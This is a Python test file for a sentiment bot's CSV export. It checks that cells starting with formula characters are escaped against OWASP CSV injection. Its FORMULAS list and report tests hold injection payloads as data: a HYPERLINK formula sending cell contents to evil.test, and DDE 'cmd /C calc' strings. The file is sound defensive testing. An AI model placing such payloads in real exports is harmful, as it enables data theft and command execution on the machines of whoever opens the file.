"""CSV exports a person opens in a spreadsheet: no cell that came from outside runs as a formula (OWASP's CSV
injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from bot.cli.render import csv_cell, to_csv
from tests.support.cli import run_cli
from tests.support.pipeline import M, add, job_context

# What a spreadsheet would run, each as the start of a mention's text: the four characters, the tab and
# carriage return OWASP adds, and the full-width forms.
FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    '\uff1dHYPERLINK("https://evil.test")',
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_is_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-0.5, -0.5),  # a score
        (-3, -3),  # a count
        ("-0.5", "-0.5"),  # a number written out: a spreadsheet reads it as the number, which runs nothing
        ("+12", "+12"),
        ("-1e-3", "-1e-3"),
        (None, ""),
        ("plain text", "plain text"),
        ("a=b, c+d, e-f, x@y", "a=b, c+d, e-f, x@y"),  # only the first character counts
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_numbers_and_harmless_text_are_left_as_they_are(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected


def test_to_csv_round_trips_what_it_keeps() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["text", "score"], [["=1+1", -0.25], ["fine", 0.5]]))))
    assert rows == [["text", "score"], ["'=1+1", "-0.25"], ["fine", "0.5"]]


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    # A spreadsheet starts a row at an unquoted carriage return: the formula after it would be a cell of its own.
    written = to_csv(["text", "score"], [["fine\r=1+1", -0.25], ["next", 1]])
    assert written == 'text,score\n"fine\r=1+1",-0.25\nnext,1'
    assert list(csv.reader(io.StringIO(written, newline=""))) == [
        ["text", "score"],
        ["fine\r=1+1", "-0.25"],
        ["next", "1"],
    ]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _file_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # as a spreadsheet reads it: a CR is a CR
        return list(csv.DictReader(handle))


def test_history_csv(monkeypatch: pytest.MonkeyPatch, db_url: str, tmp_path: Path) -> None:
    ctx = job_context(tmp_path, db_url)
    now = datetime.now(UTC).replace(microsecond=0)
    add(
        ctx.sessions,
        [M(now - timedelta(minutes=i + 1), text, "negative", url="@evil.test") for i, text in enumerate(FORMULAS)],
    )
    result = run_cli(monkeypatch, db_url, "history", "--format", "csv", "--limit", "100")
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert sorted(r["text"] for r in rows) == sorted("'" + text for text in FORMULAS)
    assert {r["url"] for r in rows} == {"'@evil.test"}
    assert {r["score_negative"] for r in rows} == {"0.8"} and all(r["id"].isdigit() for r in rows)


def test_report_csv(monkeypatch: pytest.MonkeyPatch, db_url: str, tmp_path: Path) -> None:
    ctx = job_context(tmp_path, db_url)
    day = datetime(2026, 11, 24, 12, tzinfo=UTC)
    add(
        ctx.sessions,
        [
            M(day, "=cmd|' /C calc'!A0 acmephone", "negative", likes=9, url="-1+1"),
            M(day + timedelta(hours=1), "@SUM(1) acmephone", "positive", likes=5),
        ],
    )
    env = {"BRANDPULSE_BRANDS_FILE": str(ctx.settings.brands_file)}
    out = tmp_path / "report.csv"
    args = ["report", "--brand", "acme", "--period", "2026-11-23..2026-11-29", "--format", "csv"]
    result = run_cli(monkeypatch, db_url, *args, "-o", str(out), **env)
    assert result.exit_code == 0, result.output
    rows = _file_cells(out)
    [negative] = [r for r in rows if r["section"] == "top_negative"]
    [positive] = [r for r in rows if r["section"] == "top_positive"]
    assert negative["text"] == "'=cmd|' /C calc'!A0 acmephone" and negative["url"] == "'-1+1"
    assert positive["text"] == "'@SUM(1) acmephone"
    assert negative["score"] == "0.8000" and negative["mentions"] == "1"
    # Standard output carries the same file.
    printed = run_cli(monkeypatch, db_url, *args, **env)
    assert printed.stdout == out.read_text(encoding="utf-8")


def test_labels_export_csv(monkeypatch: pytest.MonkeyPatch, db_url: str, tmp_path: Path) -> None:
    labelled = tmp_path / "crm.jsonl"
    labelled.write_text("".join(json.dumps({"text": text, "label": "negative"}) + "\n" for text in FORMULAS))
    assert run_cli(monkeypatch, db_url, "labels", "import", str(labelled)).exit_code == 0
    out = tmp_path / "pool.csv"
    result = run_cli(monkeypatch, db_url, "labels", "export", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = _file_cells(out)
    assert sorted(r["text"] for r in rows) == sorted("'" + text for text in FORMULAS)
    assert {r["label"] for r in rows} == {"negative"}
